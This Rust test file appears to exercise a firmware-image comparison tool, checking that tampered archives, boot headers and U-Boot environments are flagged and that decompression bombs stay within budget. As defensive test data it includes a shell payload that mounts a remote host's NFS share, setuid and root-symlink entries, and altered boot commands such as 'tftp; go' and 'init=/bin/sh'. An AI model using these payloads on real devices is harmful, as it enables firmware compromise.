//! Images made to fool the comparison: each differs from the reference in a way that matters, and none may pass; and
//! images made to cost more than they weigh.

use std::io::Write;
use std::time::{Duration, Instant};

use vitalsign::baseline::compare::compare;
use vitalsign::baseline::create::create;
use vitalsign::baseline::{Forbid, Kind, MutableRow};
use vitalsign::extract::Told;
use vitalsign::finding::Severity;
use vitalsign::problem::ProblemKind;

use crate::reference::{baseline, code, judge};
use crate::samples;

/// One member of a tar archive: name, type, mode, link target, content.
type Member<'a> = (&'a str, u8, u32, &'a str, &'a [u8]);

fn header(name: &[u8], kind: u8, mode: u32, link: &[u8], size: usize) -> [u8; 512] {
    let mut header = [0; 512];
    header[..name.len()].copy_from_slice(name);
    header[100..107].copy_from_slice(format!("{mode:07o}").as_bytes());
    for at in [108, 116, 329, 337] {
        header[at..at + 7].copy_from_slice(b"0000000");
    }
    header[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
    header[136..147].copy_from_slice(b"00000000000");
    header[156] = kind;
    header[157..157 + link.len()].copy_from_slice(link);
    header[257..265].copy_from_slice(b"ustar\x0000");
    header[148..156].fill(b' ');
    let sum: u32 = header.iter().map(|&byte| u32::from(byte)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header
}

fn tar(members: &[Member<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, kind, mode, link, content) in members {
        out.extend(header(
            name.as_bytes(),
            *kind,
            *mode,
            link.as_bytes(),
            content.len(),
        ));
        out.extend_from_slice(content);
        out.resize(out.len().next_multiple_of(512), 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

const EVIL: &[u8] = b"#!/bin/sh\nmount -t nfs 202.114.4.119:/ /mnt\n";

fn rootfs<'a>() -> Vec<Member<'a>> {
    vec![
        ("./", b'5', 0o755, "", b""),
        ("./bin/", b'5', 0o755, "", b""),
        ("./bin/sh", b'0', 0o755, "", b"#!/shell\n"),
        ("./etc/", b'5', 0o755, "", b""),
        ("./etc/passwd", b'0', 0o644, "", b"root:x:0:0::/:/bin/sh\n"),
        ("./opt/", b'5', 0o755, "", b""),
        ("./log/", b'5', 0o755, "", b""),
    ]
}

fn with<'a>(mut members: Vec<Member<'a>>, more: &[Member<'a>]) -> Vec<Member<'a>> {
    members.extend_from_slice(more);
    members
}

/// A chip: a loader of noise at 0, the tree at 64 KiB, erased bytes around.
fn chip(loader: &[u8], tree: &[u8]) -> Vec<u8> {
    let mut image = vec![0xff; 256 << 10];
    image[..loader.len()].copy_from_slice(loader);
    image[64 << 10..(64 << 10) + tree.len()].copy_from_slice(tree);
    image
}

fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut state = seed;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 24) as u8
    };
    (0..len).map(|_| next()).collect()
}

#[test]
fn a_file_that_stands_for_the_root_is_an_entry() {
    let golden = tar(&rootfs());
    let image = tar(&with(rootfs(), &[("./", b'0', 0o4755, "", EVIL)]));
    assert_ne!(code(&golden, &image), 0);
}

#[test]
fn a_second_root_and_a_changed_root_are_told() {
    let golden = tar(&rootfs());
    for evil in [
        ("./", b'5', 0o777, "", &b""[..]),
        ("./", b'2', 0o777, "/mnt", b""),
    ] {
        let image = tar(&with(rootfs(), &[evil]));
        assert_ne!(code(&golden, &image), 0, "{evil:?}");
    }
    assert_ne!(code(&golden, &tar(&rootfs()[1..])), 0, "no root");
    assert_ne!(code(&tar(&rootfs()[1..]), &golden), 0, "a root");
}

#[test]
fn a_wrapper_cannot_hide_a_second_file_behind_the_first() {
    let inner = tar(&rootfs());
    let mut evil = rootfs();
    evil[2].4 = EVIL;
    let evil = tar(&evil);
    let golden = tar(&[("root.tar", b'0', 0o644, "", &inner)]);
    let image = tar(&[
        ("root.tar", b'0', 0o644, "", &inner),
        ("root.tar", b'0', 0o644, "", &evil),
    ]);
    assert_ne!(code(&golden, &image), 0);
}

#[test]
fn a_wrapper_cannot_carry_links_and_devices_along() {
    let inner = tar(&rootfs());
    let golden = tar(&[("root.tar", b'0', 0o644, "", &inner)]);
    for evil in [
        ("x", b'2', 0o777, "/", &b""[..]),
        ("x", b'0', 0o644, "", b""),
    ] {
        let image = tar(&[("root.tar", b'0', 0o644, "", &inner), evil]);
        assert_ne!(code(&golden, &image), 0, "{evil:?}");
    }
}

#[test]
fn a_program_with_the_component_in_its_tail_does_not_pass() {
    let inner = tar(&rootfs());
    let golden = tar(&[("root.tar", b'0', 0o644, "", &inner)]);
    let elf = std::fs::read(samples::repository().join("fixtures/elf/program")).unwrap();
    let carrier = [&elf[..], &[0; 512], &inner[..]].concat();
    let image = tar(&[("root.tar", b'0', 0o644, "", &carrier)]);
    assert_ne!(code(&golden, &image), 0);
}

#[test]
fn a_region_that_holds_nothing_is_still_bytes() {
    let tree = tar(&rootfs());
    let golden = chip(&noise(1, 5000), &tree);
    let mut empty = gzip(b"");
    empty[3] |= 1 << 3;
    let name: Vec<u8> = noise(2, 4000).iter().map(|byte| byte | 0x20).collect();
    empty.splice(10..10, [&name[..], &[0]].concat());
    let mut image = golden.clone();
    image[128 << 10..(128 << 10) + empty.len()].copy_from_slice(&empty);
    assert_ne!(code(&golden, &image), 0);
}

fn logs(component: usize) -> MutableRow {
    MutableRow {
        component,
        glob: "/log/**".to_owned(),
        types: [Kind::File].into_iter().collect(),
        mode_max: 0o666,
        max_bytes: Some(1 << 20),
        forbid: [Forbid::Elf, Forbid::Script].into_iter().collect(),
    }
}

#[test]
fn a_copy_in_a_log_does_not_stand_for_the_loader() {
    let loader = noise(3, 5000);
    let golden = chip(&loader, &tar(&rootfs()));
    let mut expected = baseline(&golden);
    let tree = expected.components.iter().position(|it| it.body.is_tree());
    expected.mutable.push(logs(tree.unwrap()));
    let copy = tar(&with(rootfs(), &[("./log/a", b'0', 0o644, "", &loader)]));
    assert_eq!(judge(&expected, &chip(&loader, &copy)).0, 0);
    let erased = chip(&[0xff; 5000], &copy);
    assert_ne!(judge(&expected, &erased).0, 0);
}

#[test]
fn what_stayed_unread_in_a_matching_tree_is_told() {
    use vitalsign::entry::EntryPath;
    use vitalsign::extract::Told;
    use vitalsign::problem::Problem;
    let golden = tar(&rootfs());
    let expected = baseline(&golden);
    let mut found = samples::unpack_bytes(golden);
    let owner = vitalsign::extract::Owner::Region(0);
    let problem = Problem::corrupt("a directory cannot be read").about(&EntryPath::new(b"opt"));
    let place = found.regions[0].place.clone();
    found.problems.push(Told::new(&place, problem).of(owner));
    assert!(!compare(&expected, &found).is_complete());
}

/// A uImage of a ramdisk that is loaded at an address.
fn uimage(load: u32, payload: &[u8]) -> Vec<u8> {
    let mut header = vec![0; 64];
    header[..4].copy_from_slice(&[0x27, 0x05, 0x19, 0x56]);
    header[12..16].copy_from_slice(&(payload.len() as u32).to_be_bytes());
    header[16..20].copy_from_slice(&load.to_be_bytes());
    header[24..28].copy_from_slice(&crc32fast::hash(payload).to_be_bytes());
    header[28..32].copy_from_slice(&[5, 2, 3, 0]);
    let crc = crc32fast::hash(&header);
    header[4..8].copy_from_slice(&crc.to_be_bytes());
    header.extend_from_slice(payload);
    header
}

#[test]
fn the_header_around_a_ramdisk_is_compared() {
    let tree = tar(&rootfs());
    let golden = chip(&noise(4, 500), &uimage(0x8000, &tree));
    let image = chip(&noise(4, 500), &uimage(0x9000, &tree));
    assert_ne!(code(&golden, &image), 0);
}

#[test]
fn a_moved_file_tells_what_else_changed() {
    let golden = tar(&rootfs());
    let mut members = rootfs();
    members[4] = ("./opt/shadow", b'0', 0o4777, "", members[4].4);
    let (code, comparison) = judge(&baseline(&golden), &tar(&members));
    assert_ne!(code, 0);
    let fields: Vec<_> = comparison
        .changes
        .iter()
        .flat_map(|it| &it.fields)
        .collect();
    assert!(fields.contains(&&"mode"), "{fields:?}");
}

#[test]
fn every_single_change_of_an_entry_is_told() {
    let golden = tar(&rootfs());
    for at in 1..rootfs().len() {
        let mut gone = rootfs();
        gone.remove(at);
        assert_ne!(code(&golden, &tar(&gone)), 0, "without {at}");
        let mut other = rootfs();
        other[at].2 ^= 0o4000;
        assert_ne!(code(&golden, &tar(&other)), 0, "mode of {at}");
        let twice = with(rootfs(), &[rootfs()[at]]);
        assert_ne!(code(&golden, &tar(&twice)), 0, "twice {at}");
    }
}

#[expect(clippy::disallowed_methods, reason = "a test of time needs the time")]
fn within_seconds<T>(seconds: u64, what: &str, work: impl FnOnce() -> T) -> T {
    let start = Instant::now();
    let done = work();
    let took = start.elapsed();
    println!("{what}: {took:?}");
    assert!(took < Duration::from_secs(seconds), "{what} took {took:?}");
    done
}

#[test]
fn a_hundred_thousand_streams_side_by_side_are_settled_in_time() {
    let one = [&gzip(b"x")[..], b"--"].concat();
    let image = one.repeat(100_000);
    within_seconds(30, "streams", || samples::unpack_bytes(image));
}

#[test]
fn regions_are_entries_of_the_budget() {
    let limits = vitalsign::budget::Limits {
        entries: 1000,
        ..vitalsign::budget::Limits::default()
    };
    let one = [&gzip(b"x")[..], b"--"].concat();
    let found = samples::unpack_within(one.repeat(5000), limits);
    assert!(found.regions.len() <= 1000, "{}", found.regions.len());
    assert!(found.is_incomplete());
}

#[test]
fn a_log_in_a_file_is_measured_once() {
    let path = samples::repository().join("fixtures/jffs2/little-zlib.img");
    let log = std::fs::read(path).unwrap();
    let content = [&[0x55; 7][..], &log.repeat(40)].concat();
    let image = tar(&[("update.bin", b'0', 0o644, "", &content)]);
    within_seconds(20, "log", || samples::unpack_bytes(image));
}

#[test]
fn a_million_magics_are_looked_at_in_time() {
    for format in vitalsign::formats::ALL {
        for magic in format.magics() {
            let image = magic.bytes.repeat((2 << 20) / magic.bytes.len());
            let what = format!("{} {:02x?}", format.doc().id, magic.bytes);
            within_seconds(20, &what, || samples::unpack_bytes(image));
        }
    }
}

#[test]
fn many_foreign_files_in_a_wrapper_are_compared_in_time() {
    let inner = tar(&rootfs());
    let golden = tar(&[("root.tar", b'0', 0o644, "", &inner)]);
    let names: Vec<String> = (0..60_000).map(|at| format!("f{at}")).collect();
    let mut members: Vec<Member<'_>> = vec![("root.tar", b'0', 0o644, "", &inner)];
    members.extend(
        names
            .iter()
            .map(|name| (name.as_str(), b'0', 0o644, "", &b"x"[..])),
    );
    let expected = baseline(&golden);
    let image = samples::unpack_bytes(tar(&members));
    let wide = with(rootfs(), &members[1..]);
    let wide = tar(&[("root.tar", b'0', 0o644, "", &tar(&wide)), members[1]]);
    let wide = samples::unpack_bytes(wide);
    within_seconds(10, "wrapper", || compare(&expected, &image));
    within_seconds(10, "tree", || compare(&expected, &wide));
    within_seconds(10, "create", || create(&image));
}

/// A U-Boot environment of 4 KiB.
fn environment(variables: &[&str]) -> Vec<u8> {
    let mut text: Vec<u8> = variables
        .iter()
        .flat_map(|variable| [variable.as_bytes(), &[0]].concat())
        .collect();
    text.resize(4092, 0);
    let mut image = crc32fast::hash(&text).to_le_bytes().to_vec();
    image.extend_from_slice(&text);
    image
}

#[test]
fn another_boot_command_is_a_finding_and_another_address_is_not() {
    let common = ["arch=arm", "baudrate=115200", "bootdelay=3", "stdin=serial"];
    let with = |more: &[&str]| environment(&[&common[..], more].concat());
    let reference = with(&["bootargs=quiet", "bootcmd=bootm", "ipaddr=192.0.2.1"]);
    let baseline = baseline(&reference);
    let findings = |image: &[u8]| {
        let found = samples::unpack_bytes(image.to_vec());
        let comparison = compare(&baseline, &found);
        let mut risk = vitalsign::check::risk(&found, &vitalsign::check::Basis::default());
        risk.against(&baseline, &comparison, &found);
        risk.findings
    };
    assert!(findings(&reference).is_empty());
    let address = with(&["bootargs=quiet", "bootcmd=bootm", "ipaddr=192.0.2.9"]);
    assert!(findings(&address).is_empty());
    for (variables, evidence) in [
        // Another value, none, an argument more, a command that was not there, and one under another name.
        (
            &["bootargs=quiet", "bootcmd=tftp; go", "ipaddr=192.0.2.1"][..],
            "found: tftp; go",
        ),
        (
            &["bootargs=quiet", "ipaddr=192.0.2.1"],
            "found: no such key",
        ),
        (
            &["bootargs=init=/bin/sh", "bootcmd=bootm", "ipaddr=192.0.2.1"],
            "found: init=/bin/sh",
        ),
        (
            &[
                "bootargs=quiet",
                "bootcmd=bootm",
                "ipaddr=192.0.2.1",
                "preboot=tftp",
            ],
            "expected: no such key",
        ),
        (
            &["bootargs=quiet", "ipaddr=192.0.2.1", "old=bootm"],
            "the value now stands under /old",
        ),
    ] {
        let found = findings(&with(variables));
        assert_eq!(found.len(), 1, "{variables:?}: {found:#?}");
        assert_eq!(found[0].code, "boot-command-changed");
        assert_eq!(found[0].severity, Severity::High);
        let shown = &found[0].evidence;
        assert!(shown.iter().any(|line| line == evidence), "{shown:?}");
        assert!(found[0].place.to_string().starts_with("uboot-env@0x0"));
    }
}

#[test]
fn many_small_bombs_yield_no_more_than_one_may() {
    // Each stays below what a stream may yield unasked; together they are 1.3 GB out of 1.3 MB.
    let zeros = vec![0; 255 << 20];
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(&zeros).unwrap();
    let mut bomb = packer.finish().unwrap();
    bomb.extend(b"between two streams");
    let found = samples::unpack_bytes(bomb.repeat(5));
    let told =
        |told: &&Told| told.kind == ProblemKind::Limit && told.detail.contains("--max-ratio");
    assert!(
        found.problems.iter().any(|it| told(&it)),
        "{:#?}",
        found.problems
    );
    assert!(found.is_incomplete());
}
